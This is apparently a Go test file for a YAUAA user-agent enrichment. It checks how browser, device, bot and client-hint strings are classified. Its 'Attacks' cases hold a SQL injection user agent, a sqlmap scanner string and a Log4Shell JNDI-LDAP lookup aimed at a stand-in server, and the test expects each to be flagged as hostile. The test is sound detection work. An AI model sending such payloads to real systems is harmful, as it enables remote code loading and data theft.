package enrichments

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/santhosh-tekuri/jsonschema/v5"

	"github.com/snowplow-mini/snowplow-mini/internal/sharedtest"
)

// yauaaConf is a YAUAA configuration with the given parameters.
func yauaaConf(params string) string {
	return conf(spe, "yauaa_enrichment_config", "1-0-0", params)
}

// mainFields are the fields every case of yauaaCases states.
func mainFields(deviceClass, deviceName, deviceBrand, osClass, osNameVersion, engineNameVersion, agentClass, agentNameVersion string) map[string]string {
	return map[string]string{
		"deviceClass": deviceClass, "deviceName": deviceName, "deviceBrand": deviceBrand,
		"operatingSystemClass": osClass, "operatingSystemNameVersion": osNameVersion,
		"layoutEngineNameVersion": engineNameVersion,
		"agentClass":              agentClass, "agentNameVersion": agentNameVersion,
	}
}

// with adds fields to a want map.
func with(m map[string]string, kv ...string) map[string]string {
	for i := 0; i < len(kv); i += 2 {
		m[kv[i]] = kv[i+1]
	}
	return m
}

// Client hints of a Chrome 120 on Windows 11 (x86, 64 bits) and of a Samsung Galaxy S23
// Ultra, as Chrome sends them once the site asked for all of them.
var (
	hintsWindows11 = []string{
		`Sec-CH-UA: "Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"`,
		`Sec-CH-UA-Full-Version-List: "Not_A Brand";v="8.0.0.0", "Chromium";v="120.0.6099.130", "Google Chrome";v="120.0.6099.130"`,
		`Sec-CH-UA-Mobile: ?0`, `Sec-CH-UA-Platform: "Windows"`, `Sec-CH-UA-Platform-Version: "15.0.0"`,
		`Sec-CH-UA-Arch: "x86"`, `Sec-CH-UA-Bitness: "64"`, `Sec-CH-UA-Model: ""`,
	}
	hintsGalaxyS23 = []string{
		`sec-ch-ua: "Not_A Brand";v="8", "Chromium";v="120", "Google Chrome";v="120"`,
		`sec-ch-ua-full-version-list: "Not_A Brand";v="8.0.0.0", "Chromium";v="120.0.6099.144", "Google Chrome";v="120.0.6099.144"`,
		`sec-ch-ua-mobile: ?1`, `sec-ch-ua-platform: "Android"`, `sec-ch-ua-platform-version: "14.0.0"`,
		`sec-ch-ua-model: "SM-S918B"`,
	}
)

const (
	uaChromeWindows  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	uaChromeAndroidK = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36"
)

var yauaaCases = []struct {
	name    string
	ua      string
	headers []string
	want    map[string]string
}{
	// Desktop browsers.
	{"chrome windows", uaChromeWindows, nil,
		with(mainFields("Desktop", "Desktop", "Unknown", "Desktop", "Windows 10.0", "Blink 120.0", "Browser", "Chrome 120.0.0.0"),
			"operatingSystemName", "Windows NT", "operatingSystemNameVersionMajor", "Windows 10", "deviceCpu", "Intel x86_64", "deviceCpuBits", "64",
			"agentVersionMajor", "120", "layoutEngineVersionMajor", "120")},
	{"chrome windows 11 from client hints", uaChromeWindows, hintsWindows11,
		with(mainFields("Desktop", "Desktop", "Unknown", "Desktop", "Windows 11.0", "Blink 120.0.6099.130", "Browser", "Chrome 120.0.6099.130"),
			"operatingSystemVersionMajor", "11", "deviceCpu", "Intel x86_64", "deviceCpuBits", "64")},
	{"chrome windows 10 from client hints", uaChromeWindows, []string{`Sec-CH-UA-Platform: "Windows"`, `Sec-CH-UA-Platform-Version: "10.0.0"`},
		mainFields("Desktop", "Desktop", "Unknown", "Desktop", "Windows 10.0", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},
	{"brave from client hints", uaChromeWindows, []string{`Sec-CH-UA: "Not_A Brand";v="8", "Chromium";v="120", "Brave";v="120"`},
		mainFields("Desktop", "Desktop", "Unknown", "Desktop", "Windows 10.0", "Blink 120.0", "Browser", "Brave 120.0.0.0")},
	{"firefox windows", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0", nil,
		mainFields("Desktop", "Desktop", "Unknown", "Desktop", "Windows 10.0", "Gecko 121.0", "Browser", "Firefox 121.0")},
	{"edge windows", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91", nil,
		mainFields("Desktop", "Desktop", "Unknown", "Desktop", "Windows 10.0", "Blink 120.0", "Browser", "Edge 120.0.2210.91")},
	{"opera windows", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0", nil,
		mainFields("Desktop", "Desktop", "Unknown", "Desktop", "Windows 10.0", "Blink 120.0", "Browser", "Opera 106.0.0.0")},
	{"edge windows 8.1 from client hints", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
		[]string{`Sec-CH-UA: "Not_A Brand";v="8", "Chromium";v="120", "Microsoft Edge";v="120"`,
			`Sec-CH-UA-Full-Version-List: "Not_A Brand";v="8.0.0.0", "Chromium";v="120.0.6099.130", "Microsoft Edge";v="120.0.2210.91"`,
			`Sec-CH-UA-Platform: "Windows"`, `Sec-CH-UA-Platform-Version: "0.3.0"`},
		mainFields("Desktop", "Desktop", "Unknown", "Desktop", "Windows 8.1", "Blink 120.0.6099.130", "Browser", "Edge 120.0.2210.91")},
	{"chrome windows 7", "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36", nil,
		mainFields("Desktop", "Desktop", "Unknown", "Desktop", "Windows 7", "Blink 109.0", "Browser", "Chrome 109.0.0.0")},
	{"internet explorer 11", "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko", nil,
		mainFields("Desktop", "Desktop", "Unknown", "Desktop", "Windows 10.0", "Trident 7.0", "Browser", "Internet Explorer 11.0")},
	{"internet explorer 11 in compatibility view", "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; .NET4.0E)", nil,
		with(mainFields("Desktop", "Desktop", "Unknown", "Desktop", "Windows 10.0", "Trident 7.0", "Browser", "Internet Explorer 11.0"),
			"iECompatibilityNameVersion", "Internet Explorer 7.0", "iECompatibilityVersionMajor", "7")},
	{"opera presto", "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.12.388 Version/12.16", nil,
		with(mainFields("Desktop", "Desktop", "Unknown", "Desktop", "Windows 7", "Presto 2.12.388", "Browser", "Opera 12.16"),
			"agentSecurity", "Strong security")},
	{"safari mac frozen version", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15", nil,
		with(mainFields("Desktop", "Apple Macintosh", "Apple", "Desktop", "Mac OS >=10.15.7", "AppleWebKit 605.1.15", "Browser", "Safari 17.1"),
			"operatingSystemNameVersionMajor", "Mac OS >=10.15", "deviceCpu", "Intel")},
	{"safari old mac", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/601.7.7 (KHTML, like Gecko) Version/9.1.2 Safari/601.7.7", nil,
		with(mainFields("Desktop", "Apple Macintosh", "Apple", "Desktop", "Mac OS 10.11.6", "AppleWebKit 601.7.7", "Browser", "Safari 9.1.2"),
			"operatingSystemVersionMajor", "10.11")},
	{"firefox mac", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:121.0) Gecko/20100101 Firefox/121.0", nil,
		mainFields("Desktop", "Apple Macintosh", "Apple", "Desktop", "Mac OS >=10.15", "Gecko 121.0", "Browser", "Firefox 121.0")},
	{"chrome mac from client hints", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
		[]string{`Sec-CH-UA-Platform: "macOS"`, `Sec-CH-UA-Platform-Version: "14.2.1"`, `Sec-CH-UA-Arch: "arm"`, `Sec-CH-UA-Bitness: "64"`},
		with(mainFields("Desktop", "Apple Macintosh", "Apple", "Desktop", "Mac OS 14.2.1", "Blink 120.0", "Browser", "Chrome 120.0.0.0"),
			"operatingSystemVersionMajor", "14", "deviceCpu", "ARM", "deviceCpuBits", "64")},
	{"chrome linux", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", nil,
		with(mainFields("Desktop", "Linux Desktop", "Unknown", "Desktop", "Linux ??", "Blink 120.0", "Browser", "Chrome 120.0.0.0"),
			"operatingSystemVersion", "??", "deviceCpu", "Intel x86_64")},
	{"firefox ubuntu", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0", nil,
		mainFields("Desktop", "Linux Desktop", "Unknown", "Desktop", "Ubuntu ??", "Gecko 121.0", "Browser", "Firefox 121.0")},
	{"chromebook", "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", nil,
		mainFields("Desktop", "Chromebook", "Unknown", "Desktop", "Chrome OS 14541.0.0", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},

	// Apple mobile.
	{"safari iphone", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1.2 Mobile/15E148 Safari/604.1", nil,
		with(mainFields("Phone", "Apple iPhone", "Apple", "Mobile", "iOS 17.1.2", "AppleWebKit 605.1.15", "Browser", "Safari 17.1.2"),
			"operatingSystemVersionMajor", "17")},
	{"safari ipad", "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1", nil,
		mainFields("Tablet", "Apple iPad", "Apple", "Mobile", "iOS 16.6", "AppleWebKit 605.1.15", "Browser", "Safari 16.6")},
	{"chrome iphone", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/120.0.6099.119 Mobile/15E148 Safari/604.1", nil,
		mainFields("Phone", "Apple iPhone", "Apple", "Mobile", "iOS 17.1", "AppleWebKit 605.1.15", "Browser", "Chrome 120.0.6099.119")},
	{"firefox iphone", "Mozilla/5.0 (iPhone; CPU iPhone OS 16_7_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/121.0 Mobile/15E148 Safari/605.1.15", nil,
		mainFields("Phone", "Apple iPhone", "Apple", "Mobile", "iOS 16.7.2", "AppleWebKit 605.1.15", "Browser", "Firefox 121.0")},

	// Android.
	{"chrome android reduced", uaChromeAndroidK, nil,
		mainFields("Phone", "Unknown", "Unknown", "Mobile", "Android >=10", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},
	{"chrome android reduced with client hints", uaChromeAndroidK, hintsGalaxyS23,
		with(mainFields("Phone", "Samsung SM-S918B", "Samsung", "Mobile", "Android 14", "Blink 120.0.6099.144", "Browser", "Chrome 120.0.6099.144"),
			"operatingSystemVersion", "14")},
	{"chrome android tablet from client hints", "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
		[]string{`Sec-CH-UA-Mobile: ?0`, `Sec-CH-UA-Platform: "Android"`, `Sec-CH-UA-Platform-Version: "13.0.0"`, `Sec-CH-UA-Model: "Pixel Tablet"`},
		mainFields("Tablet", "Google Pixel Tablet", "Google", "Mobile", "Android 13", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},
	{"chrome pixel", "Mozilla/5.0 (Linux; Android 14; Pixel 8 Pro) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36", nil,
		mainFields("Phone", "Google Pixel 8 Pro", "Google", "Mobile", "Android 14", "Blink 120.0", "Browser", "Chrome 120.0.6099.144")},
	{"chrome samsung tablet", "Mozilla/5.0 (Linux; Android 13; SM-X700) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", nil,
		mainFields("Tablet", "Samsung SM-X700", "Samsung", "Mobile", "Android 13", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},
	{"chrome tablet without mobile", "Mozilla/5.0 (Linux; Android 12; Lenovo TB-J606F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", nil,
		mainFields("Tablet", "Lenovo TB-J606F", "Lenovo", "Mobile", "Android 12", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},
	{"samsung internet", "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36", nil,
		mainFields("Phone", "Samsung SM-S911B", "Samsung", "Mobile", "Android 13", "Blink 115.0", "Browser", "SamsungBrowser 23.0")},
	{"firefox android", "Mozilla/5.0 (Android 14; Mobile; rv:121.0) Gecko/121.0 Firefox/121.0", nil,
		mainFields("Phone", "Unknown", "Unknown", "Mobile", "Android 14", "Gecko 121.0", "Browser", "Firefox 121.0")},
	{"motorola", "Mozilla/5.0 (Linux; Android 13; moto g(60)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", nil,
		mainFields("Phone", "Motorola moto g(60)", "Motorola", "Mobile", "Android 13", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},
	{"xiaomi model code", "Mozilla/5.0 (Linux; Android 12; M2101K6G) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", nil,
		mainFields("Phone", "Xiaomi M2101K6G", "Xiaomi", "Mobile", "Android 12", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},
	{"android watch", "Mozilla/5.0 (Linux; Android 13; SM-R920) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", nil,
		mainFields("Watch", "Samsung SM-R920", "Samsung", "Mobile", "Android 13", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},
	{"windows phone", "Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; Lumia 950) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Mobile Safari/537.36 Edge/15.15063", nil,
		mainFields("Phone", "Microsoft Lumia 950", "Microsoft", "Mobile", "Windows Phone 10.0", "EdgeHTML 15.15063", "Browser", "Edge 40")},
	{"kaios", "Mozilla/5.0 (Mobile; LYF/F300B/LYF-F300B-001-01-15-130718-i;Android; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5", nil,
		mainFields("Phone", "Unknown", "Unknown", "Mobile", "KaiOS 2.5", "Gecko 48.0", "Browser", "Firefox 48.0")},
	{"kindle", "Mozilla/5.0 (Linux; U; en-US) AppleWebKit/528.5+ (KHTML, like Gecko, Safari/528.5+) Version/4.0 Kindle/3.0 (screen 600x800; rotate)", nil,
		mainFields("eReader", "Amazon Kindle", "Amazon", "Embedded", "Linux ??", "AppleWebKit 528.5+", "Unknown", "Unknown ??")},
	{"oculus quest", "Mozilla/5.0 (X11; Linux x86_64; Quest 2) AppleWebKit/537.36 (KHTML, like Gecko) OculusBrowser/23.0.0.5.84.414839213 SamsungBrowser/4.0 Chrome/108.0.5359.166 VR Safari/537.36", nil,
		mainFields("Virtual Reality", "Oculus", "Oculus", "Desktop", "Linux ??", "Blink 108.0", "Browser", "Oculus Browser 23.0.0.5.84.414839213")},
	{"ios app http client", "MyApp/1.2.3 (iPhone; iOS 17.0; Scale/3.00)", nil,
		mainFields("Phone", "Apple iPhone", "Apple", "Mobile", "iOS 17.0", "Unknown ??", "Mobile App", "MyApp 1.2.3")},
	{"okhttp", "okhttp/4.9.2", nil,
		mainFields("Unknown", "Unknown", "Unknown", "Unknown", "Unknown ??", "Unknown ??", "Special", "okhttp 4.9.2")},
	{"brand from the ua-parser rules", "Mozilla/5.0 (Linux; Android 5.1.1; A37fw) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", nil,
		mainFields("Phone", "Oppo A37fw", "Oppo", "Mobile", "Android 5.1.1", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},
	{"brand unknown", "Mozilla/5.0 (Linux; Android 9; ZB631KL) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", nil,
		mainFields("Phone", "ZB631KL", "Unknown", "Mobile", "Android 9", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},
	{"android app http client", "Dalvik/2.1.0 (Linux; U; Android 13; Pixel 7 Build/TQ3A.230805.001)", nil,
		mainFields("Phone", "Google Pixel 7", "Google", "Mobile", "Android 13", "Unknown ??", "Special", "Dalvik 2.1.0")},

	// In-app browsers.
	{"facebook android", "Mozilla/5.0 (Linux; Android 13; 2201117TG Build/TKQ1.221114.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.144 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/442.0.0.33.110;]", nil,
		with(mainFields("Phone", "Xiaomi 2201117TG", "Xiaomi", "Mobile", "Android 13", "Blink 120.0", "Browser Webview", "Chrome Webview 120.0.6099.144"),
			"webviewAppName", "Facebook App", "webviewAppNameVersionMajor", "Facebook App 442")},
	{"facebook iphone", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/440.0.0.31.105;FBBV/543139340;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.1.2;FBSS/3;FBID/phone;FBLC/en_GB;FBOP/5;FBRV/545002170]", nil,
		with(mainFields("Phone", "Apple iPhone", "Apple", "Mobile", "iOS 17.1.2", "AppleWebKit 605.1.15", "Browser Webview", "Apple WebView 17.1.2"),
			"webviewAppNameVersion", "Facebook App 440.0.0.31.105", "facebookDeviceName", "iPhone14,5", "facebookOperatingSystemVersion", "17.1.2",
			"facebookDeviceClass", "phone", "facebookFBSS", "3")},
	{"instagram iphone", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 305.0.0.23.110 (iPhone14,5; iOS 17_1_2; en_GB; en; scale=3.00; 1170x2532; 535032906)", nil,
		with(mainFields("Phone", "Apple iPhone", "Apple", "Mobile", "iOS 17.1.2", "AppleWebKit 605.1.15", "Browser Webview", "Apple WebView 17.1.2"),
			"webviewAppNameVersion", "Instagram 305.0.0.23.110")},
	{"instagram android", "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36 Instagram 307.0.0.34.111 Android (33/13; 420dpi; 1080x2209; samsung; SM-A536B; a53x; s5e8825; en_GB; 531200592)", nil,
		with(mainFields("Phone", "Samsung SM-A536B", "Samsung", "Mobile", "Android 13", "Blink 119.0", "Browser Webview", "Chrome Webview 119.0.6045.163"),
			"webviewAppNameVersion", "Instagram 307.0.0.34.111")},

	// Robots and tools.
	{"googlebot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", nil,
		with(mainFields("Robot", "Google", "Google", "Cloud", "Cloud ??", "Robot ??", "Robot", "Googlebot 2.1"),
			"agentInformationUrl", "http://www.google.com/bot.html")},
	{"googlebot smartphone", "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.129 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", nil,
		mainFields("Robot Mobile", "Google", "Google", "Cloud", "Cloud ??", "Robot ??", "Robot Mobile", "Googlebot 2.1")},
	{"bingbot", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", nil,
		mainFields("Robot", "Bing", "Bing", "Cloud", "Cloud ??", "Robot ??", "Robot", "bingbot 2.0")},
	{"yandexbot", "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", nil,
		mainFields("Robot", "Yandex", "Yandex", "Cloud", "Cloud ??", "Robot ??", "Robot", "YandexBot 3.0")},
	{"facebook link preview", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", nil,
		mainFields("Robot", "Facebook", "Facebook", "Cloud", "Cloud ??", "Robot ??", "Robot", "facebookexternalhit 1.1")},
	{"robot with email", "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)", nil,
		with(mainFields("Robot", "Moz", "Moz", "Cloud", "Cloud ??", "Robot ??", "Robot", "DotBot 1.2"),
			"agentInformationEmail", "help@moz.com", "agentInformationUrl", "https://opensiteexplorer.org/dotbot")},
	{"applebot", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", nil,
		mainFields("Robot", "Apple", "Apple", "Cloud", "Cloud ??", "Robot ??", "Robot", "Applebot 0.1")},
	{"headless chrome", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.28 Safari/537.36", nil,
		mainFields("Robot", "Unknown", "Unknown", "Cloud", "Cloud ??", "Robot ??", "Robot", "HeadlessChrome 120.0.6099.28")},
	{"curl", "curl/8.4.0", nil,
		mainFields("Robot", "Unknown", "Unknown", "Unknown", "Unknown ??", "Unknown ??", "Special", "curl 8.4.0")},
	{"python requests", "python-requests/2.31.0", nil,
		mainFields("Robot", "Unknown", "Unknown", "Unknown", "Unknown ??", "Unknown ??", "Special", "python-requests 2.31.0")},
	{"cubot phone is not a robot", "Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", nil,
		mainFields("Phone", "Cubot X30", "Cubot", "Mobile", "Android 10", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},

	// TVs and consoles.
	{"samsung smart tv", "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/4.0 Chrome/76.0.3809.146 TV Safari/537.36", nil,
		mainFields("TV", "Samsung Smart TV", "Samsung", "Embedded", "Tizen 6.0", "Blink 76.0", "Browser", "SamsungBrowser 4.0")},
	{"lg smart tv", "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79 Safari/537.36 WebAppManager", nil,
		mainFields("TV", "LG Smart TV", "LG", "Embedded", "webOS ??", "Blink 79.0", "Browser", "Chrome 79.0.3945.79")},
	{"fire tv", "Mozilla/5.0 (Linux; Android 12; AFTKA Build/PS7633; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.43 Mobile Safari/537.36", nil,
		mainFields("Set-top box", "Amazon AFTKA", "Amazon", "Mobile", "Android 12", "Blink 120.0", "Browser Webview", "Chrome Webview 120.0.6099.43")},
	{"android tv", "Mozilla/5.0 (Linux; Android 10; BRAVIA 4K GB ATV3 Build/QTG3.200305.006) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", nil,
		mainFields("TV", "Sony BRAVIA 4K GB ATV3", "Sony", "Mobile", "Android 10", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},
	{"nvidia shield", "Mozilla/5.0 (Linux; Android 9; SHIELD Android TV Build/PPR1.180610.011) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", nil,
		mainFields("Set-top box", "Nvidia SHIELD Android TV", "Nvidia", "Mobile", "Android 9", "Blink 120.0", "Browser", "Chrome 120.0.0.0")},
	{"chromecast", "Mozilla/5.0 (CrKey armv7l 1.56.500000) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/97.0.4692.99 Safari/537.36 CrKey/1.56.500000", nil,
		mainFields("Set-top box", "Google Chromecast", "Google", "Embedded", "Unknown ??", "Blink 97.0", "Browser", "Chrome 97.0.4692.99")},
	{"hbbtv", "HbbTV/1.5.1 (+DRM; Samsung; SmartTV2020; T-KSU2EDEUC-1506.0; ; KANTS2EDEUC-1506.0)", nil,
		mainFields("TV", "Samsung Smart TV", "Samsung", "Embedded", "Unknown ??", "Unknown ??", "Unknown", "HbbTV 1.5.1")},
	{"playstation 5", "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.0 Safari/605.1.15", nil,
		with(mainFields("Game Console", "Sony PlayStation 5", "Sony", "Game Console", "PlayStation 2.26", "AppleWebKit 605.1.15", "Browser", "Safari 13.0"),
			"deviceFirmwareVersion", "2.26")},
	{"playstation 4", "Mozilla/5.0 (PlayStation 4 8.52) AppleWebKit/605.1.15 (KHTML, like Gecko)", nil,
		mainFields("Game Console", "Sony PlayStation 4", "Sony", "Game Console", "PlayStation 8.52", "AppleWebKit 605.1.15", "Unknown", "Unknown ??")},
	{"xbox one", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36 Edge/18.19041", nil,
		mainFields("Game Console", "Microsoft Xbox One", "Microsoft", "Game Console", "Windows 10.0", "EdgeHTML 18.19041", "Browser", "Edge 44")},
	{"nintendo switch", "Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/606.4 (KHTML, like Gecko) NF/6.0.1.15.4 NintendoBrowser/5.1.0.20393", nil,
		mainFields("Game Console", "Nintendo Switch", "Nintendo", "Game Console", "Nintendo ??", "AppleWebKit 606.4", "Browser", "NintendoBrowser 5.1.0.20393")},

	// Attacks.
	{"sql injection", "Mozilla/5.0 ' UNION SELECT password FROM users--", nil,
		with(mainFields("Hacker", "Hacker", "Hacker", "Hacker", "Hacker Hacker", "Hacker Hacker", "Hacker", "Hacker Hacker"),
			"hackerAttackVector", "SQL Injection", "hackerToolkit", "Unknown")},
	{"scanner", "sqlmap/1.7.2#stable (https://sqlmap.org)", nil,
		with(mainFields("Hacker", "Hacker", "Hacker", "Hacker", "Hacker Hacker", "Hacker Hacker", "Hacker", "Hacker Hacker"),
			"hackerAttackVector", "Unknown", "hackerToolkit", "sqlmap")},
	{"log4shell", "${jndi:ldap://198.51.100.7:1389/a}", nil,
		with(mainFields("Hacker", "Hacker", "Hacker", "Hacker", "Hacker Hacker", "Hacker Hacker", "Hacker", "Hacker Hacker"),
			"hackerAttackVector", "JNDI Injection")},

	// Nothing to go on.
	{"unknown token", "SomethingElse", nil,
		mainFields("Unknown", "Unknown", "Unknown", "Unknown", "Unknown ??", "Unknown ??", "Unknown", "SomethingElse ??")},
}

// standardFields are present in every context of a non-empty user agent.
var standardFields = []string{
	"deviceClass", "deviceName", "deviceBrand",
	"operatingSystemClass", "operatingSystemName", "operatingSystemVersion", "operatingSystemVersionMajor",
	"operatingSystemNameVersion", "operatingSystemNameVersionMajor",
	"layoutEngineClass", "layoutEngineName", "layoutEngineVersion", "layoutEngineVersionMajor",
	"layoutEngineNameVersion", "layoutEngineNameVersionMajor",
	"agentClass", "agentName", "agentVersion", "agentVersionMajor", "agentNameVersion", "agentNameVersionMajor",
}

func TestYAUAA(t *testing.T) {
	s := newSet(t, yauaaConf(`{"cacheSize":100}`))
	for _, tt := range yauaaCases {
		t.Run(tt.name, func(t *testing.T) {
			got := yauaaApply(t, s, tt.ua, tt.headers)
			sub := map[string]string{}
			for k := range tt.want {
				if v, ok := got[k]; ok {
					sub[k] = v
				}
			}
			if diff := cmp.Diff(tt.want, sub); diff != "" {
				t.Errorf("yauaa(%q) mismatch (-want +got):\n%s", tt.ua, diff)
			}
			for _, f := range standardFields {
				if got[f] == "" {
					t.Errorf("yauaa(%q) has no %s", tt.ua, f)
				}
			}
		})
	}
}

// yauaaApply runs s on an event with user agent ua and the request headers, and returns
// the single yauaa_context it adds.
func yauaaApply(t testing.TB, s *Set, ua string, headers []string) map[string]string {
	t.Helper()
	r := run(t, s, fields(t, "useragent", ua), &rawInput{encoding: "UTF-8", headers: headers})
	if len(r.Derived) != 1 || r.Derived[0].Schema != yauaaContextSchema {
		t.Fatalf("yauaa(%q) derived %v, want one %s", ua, derivedJSON(t, r), yauaaContextSchema)
	}
	var got map[string]string
	if err := json.Unmarshal(r.Derived[0].Data, &got); err != nil {
		t.Fatalf("yauaa(%q) = %s: %v", ua, r.Derived[0].Data, err)
	}
	return got
}

func TestYAUAAEmptyUserAgent(t *testing.T) {
	s := newSet(t, yauaaConf(`{}`))
	r := run(t, s, fields(t, "user_ipaddress", "192.0.2.1"), &rawInput{headers: hintsWindows11})
	want := []string{`{"schema":"iglu:nl.basjes/yauaa_context/jsonschema/1-0-5","data":{"deviceClass":"Unknown"}}`}
	if diff := cmp.Diff(want, derivedJSON(t, r)); diff != "" {
		t.Errorf("yauaa(empty user agent) mismatch (-want +got):\n%s", diff)
	}
}

